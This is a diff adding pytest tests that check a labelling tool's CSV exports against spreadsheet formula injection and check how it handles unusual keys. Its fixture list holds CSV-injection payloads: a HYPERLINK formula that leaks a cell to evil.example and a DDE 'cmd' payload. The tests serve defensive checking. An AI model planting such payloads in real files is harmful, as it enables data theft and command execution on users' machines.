@@ -24,6 +24,7 @@ import json
 import time
 from datetime import datetime, timedelta, timezone
 
+import numpy as np
 import pytest
 
 import flows.evaluate_release  # noqa: F401 (Prefect configures its logging on import)
@@ -604,3 +605,110 @@ def test_a_flow_error_is_said_once_in_the_command_lines_terms(tmp_path, dask_cli
     assert code == 2, err
     assert err.count("has no key column 'id'") == 1, err  # not repeated by Prefect's task and flow logs
     assert "--key" in err and "key=" not in err
+
+
+# --------------------------------------------------------------------------------------------
+# Exported files that a spreadsheet executes or a CSV reader splits
+
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                 "\tTAB", "\rCR", "a\rb", "a\nb", "'=already quoted", "''+twice", "'plain apostrophe", "plain",
+                 "-1000", 'quote " inside', "comma, inside"]
+HOSTILE_HEADER = "=cmd|' /C calc'!A0"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _hostile_resource(root):
+    import numpy as np
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    root.mkdir(parents=True)
+    n = len(HOSTILE_CELLS)
+    keys = [*HOSTILE_CELLS, *[f"k{i}" for i in range(40 - n)]]
+    table = pa.table({"key": keys, "score": np.linspace(1, 0, len(keys)), "text": list(reversed(keys)),
+                      HOSTILE_HEADER: keys})
+    pq.write_table(table, root / "part-0.parquet")
+    return keys
+
+
+def _cells(data: bytes) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def _fill(data: bytes, *, drop_apostrophes: bool) -> str:
+    """The task with every label set to 1, as a script or an editor saves it; optionally as a
+    spreadsheet that keeps the apostrophe escape out of the saved values."""
+    import csv
+    import io
+
+    from prdist.dataflow.spreadsheet_csv import restore
+
+    rows = _cells(data)
+    at = rows[0].index("label")
+    out = io.StringIO(newline="")
+    writer = csv.writer(out, lineterminator="\r\n")
+    writer.writerow(rows[0])
+    for row in rows[1:]:
+        row[at] = "1"
+        writer.writerow([restore(c) for c in row] if drop_apostrophes else row)
+    return out.getvalue()
+
+
+def test_every_exported_csv_is_spreadsheet_safe_and_imports_back_to_the_original_keys(tmp_path, dask_client):
+    from pathlib import Path
+
+    keys = _hostile_resource(tmp_path / "resource")
+    code, out, err = cli("run", "--resource", str(tmp_path / "resource"), "--out", str(tmp_path / "runs"),
+                         "--labels", str(tmp_path / "store"), "--confidence", "none", "--scheduler", dask_client.scheduler.address)
+    assert code == 3, err
+    run = Path(out.strip().splitlines()[-1])
+    assert cli("labels", "export", "--run", str(run), "--out", str(tmp_path / "export.csv"))[0] == 0
+    exports = {"annotation_task.csv": (run / "annotation_task.csv").read_bytes(),
+               "labels export": (tmp_path / "export.csv").read_bytes()}
+    for name, data in exports.items():
+        rows = _cells(data)
+        assert len(rows) == len(keys) + 1, f"{name}: a line break split a row"
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(FORMULA_START), f"{name}: {cell!r} would be a formula"
+        for drop in (False, True):
+            filled = tmp_path / f"filled-{name.replace(' ', '-')}-{drop}.csv"
+            filled.write_text(_fill(data, drop_apostrophes=drop), newline="")
+            store = tmp_path / f"store-{name.replace(' ', '-')}-{drop}"
+            code, _, err = cli("labels", "import", "--store", str(store), str(filled))
+            assert code == 0, err
+            # Exact when the file keeps the escape; when it was dropped, exact for every key that does
+            # not itself start with an apostrophe (the documented limit of spreadsheet_csv).
+            expected = [k for k in keys if not (drop and k.startswith("'"))]
+            assert set(expected) <= set(read_label_file(str(filled))["key"]), name
+            found = lookup_labels(str(store), expected)
+            assert found.missing == 0 and set(found.labels) == {1.0}, f"{name}: keys changed on the way back"
+
+
+@pytest.mark.parametrize("keys, says", [
+    (["a", "", "c"], "holds an empty key"),
+    (np.array([2**64 - 1000, 1, 2], dtype=np.uint64), "unsigned key 18446744073709550616"),
+], ids=["empty-string-key", "uint64-key-beyond-int64"])
+def test_keys_that_cannot_be_shown_or_stored_as_they_are_are_refused_up_front(keys, says, tmp_path, dask_client):
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    root = tmp_path / "resource"
+    root.mkdir()
+    pq.write_table(pa.table({"key": keys, "score": [0.9, 0.5, 0.1]}), root / "part-0.parquet")
+    assert_refused(["run", "--resource", str(root), "--out", str(tmp_path / "runs"), "--scheduler", dask_client.scheduler.address],
+                   says=[says], watched=[tmp_path])
+    pq.write_table(pa.table({"key": keys, "score": [0.9, 0.5, 0.1]}), tmp_path / "no-stats.parquet", write_statistics=False)
+    from prdist.dataflow.parquet import keys_of
+
+    with pytest.raises(InputError, match=says):
+        keys_of(pq.read_table(tmp_path / "no-stats.parquet"), "key", "no-stats.parquet")
+
+
+def test_unsigned_keys_in_a_label_file_are_stored_as_they_are():
+    from prdist.dataflow.labels import normalise_keys
+
+    assert normalise_keys(np.array([2**64 - 1000], dtype=np.uint64)).tolist() == ["18446744073709550616"]
